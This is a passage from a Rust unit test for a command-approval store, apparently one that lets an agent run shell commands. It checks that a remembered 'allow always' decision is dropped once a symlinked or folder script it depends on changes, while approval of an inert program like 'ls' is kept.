        // A link there is followed: what it leads to is what runs.
        std::fs::create_dir_all(dir.path().join("node_modules/tool")).unwrap();
        std::fs::write(dir.path().join("node_modules/tool/cli.js"), "a").unwrap();
        std::os::unix::fs::symlink("../tool/cli.js", dir.path().join("node_modules/.bin/tool"))
            .unwrap();
        p.record("s", Rule::of(run, &line, &place()), Decision::AllowAlways);
        assert!(p.check("s", run, &Rule::of(run, &line, &place())).is_some());
        std::fs::write(dir.path().join("node_modules/tool/cli.js"), "bb").unwrap();
        assert_eq!(p.check("s", run, &Rule::of(run, &line, &place())), None);
        // Wherever it leads: by an absolute path, to a script of the folder's.
        std::fs::create_dir_all(dir.path().join("scripts")).unwrap();
        std::fs::write(dir.path().join("scripts/fmt.sh"), "a").unwrap();
        std::os::unix::fs::symlink(
            dir.path().join("scripts/fmt.sh"),
            dir.path().join("node_modules/.bin/fmt"),
        )
        .unwrap();
        p.record("s", Rule::of(run, &line, &place()), Decision::AllowAlways);
        assert!(p.check("s", run, &Rule::of(run, &line, &place())).is_some());
        std::fs::write(dir.path().join("scripts/fmt.sh"), "bb").unwrap();
        assert_eq!(p.check("s", run, &Rule::of(run, &line, &place())), None);
        // The inert programs run nothing else: their rule does not keep the lookup.
        let ls = json!({"argv": ["ls"]});
        let ls_place = || CommandPlace {
            site: outside("ls"),
            ..place()
        };
        p.record("s", Rule::of(run, &ls, &ls_place()), Decision::AllowAlways);
        std::fs::write(&make, "#!/bin/sh\necho third\n").unwrap();
        assert!(
            p.check("s", run, &Rule::of(run, &ls, &ls_place()))
                .is_some()
        );
    }
}
